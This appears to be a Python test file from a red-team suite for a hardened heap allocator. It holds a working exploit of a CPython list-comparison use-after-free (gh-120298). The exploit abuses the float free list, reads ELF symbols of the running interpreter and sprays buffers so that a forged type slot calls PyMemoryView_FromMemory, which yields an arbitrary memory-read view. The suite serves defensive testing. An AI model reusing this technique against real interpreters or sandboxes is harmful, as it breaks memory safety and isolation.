# Red team round 24, against the one-time heap alone (no per-entry-point hardening): list comparison's
# borrowed item again (CPython gh-120298, every 3.11), now through the interpreter's float free list, which
# links dead floats through their type pointer. The right item is a float: freed by the left item's __lt__,
# its type becomes the float freed just before it (H), and the heap's lane cuts the blocks after H in order,
# so the test's buffers lie where H's "tp_richcompare" is read: the reversed comparison calls any exported C
# function, here PyMemoryView_FromMemory(right, left, 4): a read-only view from the dead float upwards (its
# address from the ELF symbols of sys.executable, a plain file read), through which the function is read.
# 1.0 unhardened. Closed twice: the heap keeps the float free list empty and closed (r2e_heap.h), and
# hold_items holds both items across the comparison (round 22).
# (After reentry/_prelude.py and _common.py: `f`, `touch`, `assert_structure`.)
import struct
import sys


def _exported(path, wanted):
    """{name: address in the file} of `wanted` among the ELF file's dynamic symbols."""
    data = open(path, "rb").read()
    table_at, = struct.unpack_from("<Q", data, 0x28)
    entry, count = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, table_at + i * entry) for i in range(count)]
    found = {}
    for _, kind, _, _, offset, size, link, _, _, _ in sections:
        if kind != 11:  # SHT_DYNSYM
            continue
        names = sections[link][4]
        for i in range(size // 24):
            name_at, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, offset + i * 24)
            name = data[names + name_at:data.index(b"\0", names + name_at)].decode()
            if name in wanted:
                found[name] = value
    return found


_SYMBOLS = _exported(sys.executable, {"PyFloat_Type", "PyMemoryView_FromMemory"})
_CALL = id(float) - _SYMBOLS.get("PyFloat_Type", 0) + _SYMBOLS.get("PyMemoryView_FromMemory", 0)
_SLOTS = (_CALL.to_bytes(8, "little") * 4)[:31]  # a 32-byte buffer: the lane of H's 48-byte block


class _Left:
    __slots__ = ("right", "earlier")

    def __eq__(self, other):
        return False

    def __lt__(self, other):
        del other
        self.earlier.clear()  # H freed: the free list's head
        self.right.clear()  # the right item freed: its type is now H
        return NotImplemented


def _attempt():
    drain = [i * 0.5 for i in range(300)]  # the free list emptied of floats from before
    right = [(len(sys.argv) + 6) * 0.75]
    origin = id(right[0])
    left = _Left()
    left.right, left.earlier = right, [None]
    left.earlier[0] = (len(sys.argv) + 6) * 1.25  # H
    slots = [bytearray(_SLOTS) for _ in range(6)]  # the lane's next blocks
    return [left] < right, slots, drain, origin


class _Above:
    """Absolute addresses over a view that starts at `origin`."""

    def __init__(self, view, origin):
        self.view, self.origin = view, origin

    def __getitem__(self, at):
        return self.view[at.start - self.origin:at.stop - self.origin]


def reader():
    view, slots, drain, origin = _attempt()
    if not isinstance(view, memoryview):
        raise RuntimeError("no reader")
    return _Above(view, origin), (slots, drain)


def test_structure():
    mem, _kept = reader()
    assert_structure(mem)
